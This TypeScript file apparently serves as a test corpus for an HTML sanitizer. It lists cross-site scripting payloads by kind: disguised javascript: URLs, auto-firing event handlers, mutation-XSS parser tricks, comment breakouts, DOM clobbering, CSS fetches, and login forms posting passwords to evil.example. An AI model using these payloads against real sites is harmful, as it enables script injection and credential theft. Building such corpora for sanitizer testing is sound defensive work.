/**
 * Markup that tries to run `alert(1)`, to fetch from `evil.example`, or to take something of the page over,
 * by the kinds that DOMPurify's and OWASP's collections know. Each is a fragment by itself.
 */
type Kind = readonly string[];

const run = "alert(1)";
const evil = "https://evil.example";

/** `javascript:` in the disguises that URL and HTML parsers take off. */
const schemes: Kind = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` javascript:${run}`,
  `\u0001javascript:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  `java&Tab;script&colon;${run}`,
  `&#106;avascript:${run}`,
  `&#x6A;&#x61;vascript&#58;${run}`,
  `javascript&#0000058${run}`,
  `javascript://evil.example/%0a${run}`,
  `feed:javascript:${run}`,
  `view-source:javascript:${run}`,
  "vbscript:msgbox(1)",
  `livescript:${run}`,
  `mocha:${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`,
  `data:,${run}`,
  `blob:${evil}/1`,
  `filesystem:${evil}/x`,
  "//evil.example/x",
  "/\\evil.example/x",
  "\\\\evil.example\\x",
  "/\t/evil.example/x",
  "/&#10;/evil.example",
  "https:evil.example",
  "file:///etc/passwd",
];

/** Attributes that take an address, each on an element that has it; `@` is where it goes. */
const addressed: Kind = [
  '<a href="@">x</a>',
  '<a href="/" ping="@">x</a>',
  '<map><area href="@" shape="default"></map>',
  '<form action="@"><input type="submit" value="x"></form>',
  '<form><button formaction="@">x</button></form>',
  '<input type="image" src="@" formaction="@">',
  '<iframe src="@"></iframe>',
  '<object data="@"></object>',
  '<embed src="@">',
  '<img src="@" alt="">',
  '<img srcset="@ 1x" alt="">',
  '<picture><source srcset="@"><img alt=""></picture>',
  '<video src="@" poster="@" autoplay></video>',
  '<audio src="@" autoplay></audio>',
  '<video><source src="@"><track src="@" default></video>',
  '<script src="@"></script>',
  '<link rel="stylesheet" href="@">',
  '<link rel="preload" as="script" href="@">',
  '<link rel="manifest" href="@">',
  '<base href="@">',
  '<meta http-equiv="refresh" content="0;url=@">',
  '<blockquote cite="@">x</blockquote>',
  '<table background="@"><tr><td background="@">x</td></tr></table>',
  '<svg><a xlink:href="@"><text y="9">x</text></a></svg>',
  '<svg><use href="@"></use></svg>',
  '<svg><image href="@"></image></svg>',
  '<svg><script href="@"></script></svg>',
  '<svg><feImage href="@"></feImage></svg>',
  '<math href="@"><mi>x</mi></math>',
  '<math><maction actiontype="statusline" xlink:href="@">x</maction></math>',
];

/** An event handler that something sets off by itself, or the pointer, or focus. */
const handlers: Kind = [
  `<img src=x onerror=${run}>`,
  `<img src=/icon-192.png onload=${run}>`,
  `<img/src/onerror=${run}>`,
  `<image src=x onerror=${run}>`,
  `<svg onload=${run}>`,
  `<svg/onload=${run}//`,
  `<body onload=${run} onpageshow=${run} onfocus=${run} onresize=${run}>`,
  `<iframe onload=${run}></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<object data=x onerror=${run}></object>`,
  `<embed src=/favicon.svg onload=${run}>`,
  `<script>${run}</script>`,
  `<script src=x onerror=${run}></script>`,
  `<script type=module>${run}</script>`,
  `<style onload=${run}></style>`,
  `<link rel=stylesheet href=/x.css onerror=${run}>`,
  `<video src=x onerror=${run}></video>`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}></audio>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}></select>`,
  `<textarea autofocus onfocus=${run}></textarea>`,
  `<button autofocus onfocus=${run}>x</button>`,
  `<a autofocus tabindex=0 onfocus=${run}>x</a>`,
  `<p contenteditable autofocus onfocus=${run}>x</p>`,
  `<details open ontoggle=${run}><summary>x</summary></details>`,
  `<div popover id=p onbeforetoggle=${run}>x</div><button popovertarget=p>x</button>`,
  `<dialog open onclose=${run} oncancel=${run}>x</dialog>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<keygen autofocus onfocus=${run}>`,
  `<isindex type=image src=x onerror=${run}>`,
  `<p onclick=${run} onmouseover=${run} onpointerenter=${run} onauxclick=${run}>x</p>`,
  `<p onanimationstart=${run} style="animation:x">x</p>`,
  `<p ontransitionend=${run} style="transition:all 1s">x</p>`,
  `<p onscrollend=${run} onwheel=${run} oncopy=${run} onselectstart=${run}>x</p>`,
  `<p oncontentvisibilityautostatechange=${run} style="content-visibility:auto">x</p>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
  `<svg><set onbegin=${run} attributeName=x to=1></svg>`,
  `<svg><discard onbegin=${run}></svg>`,
  `<xss onclick=${run} tabindex=1 autofocus onfocus=${run}>x</xss>`,
  `<x-y is=z onclick=${run}>x</x-y>`,
  `<p ${"a".repeat(300)}=1 onclick=${run}>x</p>`,
];

/** Attributes split, doubled, quoted and glued as no author would. */
const splits: Kind = [
  `<a href="/"title="x"onclick="${run}">x</a>`,
  `<a title='"><img src=x onerror=${run}>'>x</a>`,
  `<img alt="\`><img src=x onerror=${run}>" src=x>`,
  `<img src="x\` \`<script>${run}</script>"\` \`>`,
  `<img """><script>${run}</script>">`,
  `<a href="/x" href="javascript:${run}">x</a>`,
  `<a\u000chref="javascript:${run}">x</a>`,
  `<a\0href="javascript:${run}">x</a>`,
  `<a href=javascript:${run}//\`>x</a>`,
  `<<script>${run}//<</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<SCRIPT/XSS SRC=${evil}/x.js></SCRIPT>`,
  `<p title="</p><script>${run}</script>">x</p>`,
  `<abbr title="&lt;img src=x onerror=${run}&gt;">x</abbr>`,
  `&lt;img src=x onerror=${run}&gt;`,
  `\u2028<img src=x onerror=${run}>\u2029`,
  `\ufeff<img src=x onerror=${run}>`,
  `<p>{{constructor.constructor('${run}')()}} \${${run}} <%= ${run} %></p>`,
];

/** Markup that means another thing when it is parsed a second time, in another place. */
const mutations: Kind = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<math><mtext><table><mglyph><style><math><img src onerror=${run}></style></mglyph></table>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<math><mtext><mglyph><svg><mtext><style><path id="</style><img onerror=${run} src>">`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${run}></style></annotation-xml>`,
  `<math><mi><mglyph><style><!--</style><img title="--&gt;&lt;img src onerror=${run}&gt;"></mi></math>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<svg><style><img src=x onerror=${run}></style></svg>`,
  `<svg><title><style><img src="</style><img src=x onerror=${run}>"></title></svg>`,
  `<svg><desc><noscript><p title="</noscript><img src=x onerror=${run}>"></desc></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${run}</script>"></foreignObject></svg>`,
  `<svg><![CDATA[><img src=x onerror=${run}>]]></svg>`,
  `<svg><style>&lt;img src=x onerror=${run}&gt;</style></svg>`,
  `<svg><animate attributeName=href values="javascript:${run}"/><a id=x><text>x</text></a></svg>`,
  `<svg><a><animate attributeName=href to="javascript:${run}" begin=0s /><text y=9>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${run}'/></svg>#x"></use></svg>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  `<noembed><img title="</noembed><img src=x onerror=${run}>"></noembed>`,
  `<noframes><img title="</noframes><img src=x onerror=${run}>"></noframes>`,
  `<xmp><img title="</xmp><img src=x onerror=${run}>"></xmp>`,
  `<title><img title="</title><img src=x onerror=${run}>"></title>`,
  `<textarea><img title="</textarea><img src=x onerror=${run}>"></textarea>`,
  `<style><img title="</style><img src=x onerror=${run}>"></style>`,
  `<iframe><img title="</iframe><img src=x onerror=${run}>"></iframe>`,
  `<template><img src=x onerror=${run}><script>${run}</script></template>`,
  `<div><template shadowrootmode=open><img src=x onerror=${run}></template></div>`,
  `<select><template><style><img src=x onerror=${run}></style></template></select>`,
  `<select><option><style></option></select><img src=x onerror=${run}></style>`,
  `<table><td></table><style></td><img src=x onerror=${run}></style>`,
  `<p><a><table><a><img title="</a></table><img src=x onerror=${run}>">`,
  `<h1><h2><form><p></form><form></p><img title="<img src=x onerror=${run}>">`,
  `<frameset><frame src="javascript:${run}"></frameset>`,
  `<plaintext><img src=x onerror=${run}>`,
];

/** Comments and instructions that end where they should not. */
const comments: Kind = [
  `<!--><img src=x onerror=${run}>-->`,
  `<!---><img src=x onerror=${run}>-->`,
  `<!-- --!><img src=x onerror=${run}> -->`,
  `<!--[if gte IE 4]><script>${run}</script><![endif]-->`,
  `<![CDATA[<img src=x onerror=${run}>]]>`,
  `<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">${run}</script>`,
  `<?php ><img src=x onerror=${run}> ?>`,
  `<!doctype html><script>${run}</script>`,
  `</main></body></html><script>${run}</script>`,
  `</script></style></textarea></title></template><img src=x onerror=${run}>`,
  `<!ENTITY x "<img src=x onerror=${run}>">&x;`,
];

/** Styles and sheets that run, fetch, or cover the page. */
const styles: Kind = [
  `<style>@import '${evil}/x.css'; body{background:url(${evil}/x.png)}</style>`,
  `<link rel=stylesheet href=${evil}/x.css>`,
  `<link rel="dns-prefetch preconnect prefetch" href=${evil}>`,
  `<p style="background:url(${evil}/x.png)">x</p>`,
  `<p style="width:expression(${run});behavior:url(x.htc);-moz-binding:url(x.xml#x)">x</p>`,
  `<p style="position:fixed;inset:0;z-index:9999">x</p>`,
  `<p class="button" hidden>x</p>`,
  `<font face="x" style="list-style:url(${evil}/x.png)">x</font>`,
];

/** Names that would stand in for what scripts ask of document and window. */
const clobbering: Kind = [
  ...["scheme", "main", "top", "currentScript", "getElementById", "querySelector", "body"].map(
    (name) => `<img name="${name}" id="${name}" alt="">`,
  ),
  `<form id="scheme" name="forms"><input name="submit"><input name="attributes"></form>`,
  `<form name="cookie"><input name="length"></form>`,
  `<output id="defaultView" name="location">x</output>`,
];

/** Forms that send what a visitor types elsewhere. */
const forms: Kind = [
  `<form action="${evil}"><input name="password" type="password"><button>Log in</button></form>`,
  `<input form="scheme" name="x"><button form="scheme" formaction="${evil}">x</button>`,
  `<form><input type=submit formaction="${evil}" formmethod=post></form>`,
  `<isindex action="${evil}">`,
  `<textarea form=scheme></textarea><select form=scheme></select>`,
];

/** As deep as a text may be, around something that is not. */
const nested: Kind = [
  `${"<b>".repeat(95)}<img src=x onerror=${run}>${"</b>".repeat(95)}`,
  `${"<svg><desc>".repeat(40)}<img src=x onerror=${run}>`,
  `${"<p>".repeat(500)}<img src=x onerror=${run}>`,
];

/** Every payload, by its kind. */
export const payloads: Readonly<Record<string, Kind>> = {
  handlers,
  addresses: [
    // Each address in each place is more than it takes: each in a few, and each place with a few.
    ...addressed.flatMap((element, place) =>
      schemes
        .filter((_scheme, index) => (index + place) % 5 === 0)
        .map((scheme) => element.replaceAll("@", scheme)),
    ),
    ...addressed.map((element) => element.replaceAll("@", `${evil}/beacon`)),
  ],
  splits,
  mutations,
  comments,
  styles,
  clobbering,
  forms,
  nested,
};
